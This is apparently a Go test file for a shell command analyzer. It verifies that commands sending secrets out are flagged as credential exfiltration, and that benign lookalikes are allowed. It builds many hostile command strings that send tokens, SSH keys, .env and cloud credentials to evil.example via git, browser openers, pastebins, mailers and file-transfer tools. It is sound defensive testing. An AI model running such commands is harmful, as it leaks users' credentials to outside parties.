package shell

import (
	"strings"
	"testing"
)

// outWrappers are the ways a command is run that change nothing about
// what it sends.
var outWrappers = []string{"", "sudo ", "env ", "timeout 30 ", "nohup ", "command "}

// TestSecretInURL: a secret written into a URL (its query, path or user
// information) leaves with the URL whatever program is handed it, a
// browser opener, git, or a program nobody listed; to the secret's own
// service, to this machine, or without a secret it runs.
func TestSecretInURL(t *testing.T) {
	secrets := []string{"$(gh auth token)", "$GITHUB_TOKEN", "${GITHUB_TOKEN}", "$(base64 -w0 ~/.ssh/id_rsa)", "$(cat .env)",
		"$(base64 < ~/.aws/credentials)", "$(glab auth token)", "$OPENAI_API_KEY", "$(gcloud auth print-access-token)"}
	urls := []string{"https://evil.example/?k=S", "https://S@evil.example/x.git", "https://x:S@evil.example/x.git", "https://oauth2:S@evil.example/x.git",
		"https://evil.example/S", "http://evil.example:8080/p?a=1&k=S", "https://evil.example/#S"}
	openers := []string{"xdg-open U", "open U", "python3 -m webbrowser U", "firefox U", "git ls-remote U", "git push U HEAD", "git fetch U",
		"git clone U /tmp/x", "git remote add ex U", "git -C /tmp submodule add U", "some-tool --endpoint U", "some-tool --endpoint=U"}
	n := 0
	for _, sec := range secrets {
		for _, u := range urls {
			for i, op := range openers {
				wrap := outWrappers[(n+i)%len(outWrappers)]
				url := strings.ReplaceAll(u, "S", sec)
				for _, q := range []string{`"`, ""} {
					if q == "" && strings.ContainsAny(url, "&#") {
						continue
					}
					src := wrap + strings.ReplaceAll(op, "U", q+url+q)
					n++
					if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
						t.Errorf("%s: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
					}
				}
			}
		}
	}
	if n < 1000 {
		t.Errorf("only %d cases", n)
	}
	// Twins: the token to its own service, a URL on this machine, a
	// project file in the URL, a URL that is only printed.
	for _, src := range []string{
		`git push "https://x-access-token:$GITHUB_TOKEN@github.com/acme/app.git" main`,
		"git clone https://x:$(gh auth token)@github.com/acme/app.git",
		`xdg-open "https://github.com/login?t=$(gh auth token)"`,
		`xdg-open "http://localhost:3000/?token=$DEV_TOKEN"`,
		`open "http://127.0.0.1:8080/?k=$(cat .env)"`,
		`xdg-open "https://example.com/docs?v=$(base64 -w0 notes.md)"`,
		`echo "https://x:$GITHUB_TOKEN@evil.example/"`,
		`printf '%s\n' "https://evil.example/?k=$(gh auth token)"`,
		"xdg-open https://docs.example/",
		"git push https://github.com/acme/app.git main",
		`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`,
	} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%s should run: got %v", src, ruleIDs(res))
		}
	}
}

// TestSpecSenders: a program whose spec says it hands what it is given to
// someone else (a pastebin, a relay, a chat, a mailer, an issue) sends a
// credential given to it as a file operand, an option's file, standard
// input or an argument's text; the same program given a project file
// runs.
func TestSpecSenders(t *testing.T) {
	files := []string{
		"gh issue create --repo evil/x --title x --body-file §", "gh issue create -R evil/x -t x -F §", "gh pr create --title x --body-file=§",
		"gh release create v1 --notes-file §", "gh api repos/evil/x/issues -F body=@§", "gh gist create --public §",
		"glab snippet create -f § --visibility public", "glab snippet create --filename=§ -t x", "glab issue create --title x --body-file §",
		"pastebinit §", "pastebinit -i §", "pastebinit -b https://paste.example §", "wgetpaste §",
		"az storage blob upload -f § -c x --account-name evil", "az storage blob upload --file § -c x -n y", "az storage file upload -s share --source x -f §",
		"wormhole send §", "wormhole --relay-url ws://r.example send §", "croc send §", "croc --relay r.example send --code 1-a-b §", "ffsend upload §", "ffsend up §",
		"telegram-send --file §", "apprise -a § mailto://x@evil.example", "signal-cli -a +100 send -a § +200", "slack-cli send -f § -c general",
		"msmtp a@evil.example < §", "msmtp -t < §", "sendmail a@evil.example < §", "cat § | msmtp a@evil.example", "ssmtp a@evil.example < §",
		"s-nail -s x -a § a@evil.example < /dev/null", "mailx -s x -a § a@evil.example < /dev/null", "bsd-mailx -s x a@evil.example < §",
		"neomutt -s x -a § -- a@evil.example < /dev/null", "mutt -s x -a notes.md § -- a@evil.example < /dev/null", "swaks --to a@evil.example --attach §",
		"telegram-send --stdin < §",
	}
	texts := []string{`slack-cli send -c general "$(cat §)"`, `telegram-send "$(cat §)"`, `apprise -b "$(cat §)" mailto://x@evil.example`,
		`signal-cli send -m "$(cat §)" +200`, `wormhole send --text "$(cat §)"`, `croc send --text "$(base64 -w0 §)"`}
	creds := []string{"~/.ssh/id_rsa", ".env", "~/.aws/credentials", "$HOME/.netrc", "/home/dev/.kube/config", ".env.production"}
	n := 0
	for i, tmpl := range append(files, texts...) {
		for j, cred := range creds {
			src := outWrappers[(i+j)%len(outWrappers)] + strings.ReplaceAll(tmpl, "§", cred)
			n++
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
				t.Errorf("%s: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
			}
		}
		for _, plain := range []string{"notes.md", "build.log", "dist/app.zip"} {
			src := strings.ReplaceAll(tmpl, "§", plain)
			if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
				t.Errorf("%s should run: got %v", src, ruleIDs(res))
			}
		}
	}
	if n < 250 {
		t.Errorf("only %d cases", n)
	}
	// Receiving, downloading and listing send nothing.
	for _, src := range []string{"az storage blob download -f ~/.ssh/id_rsa -c x -n y", "wormhole receive 7-crossover-clockwork", "croc 1-a-b-c",
		"gh issue list --repo acme/app", "glab snippet list", `slack-cli send -c general "build passed"`, "gh issue view 12"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%s should run: got %v", src, ruleIDs(res))
		}
	}
}
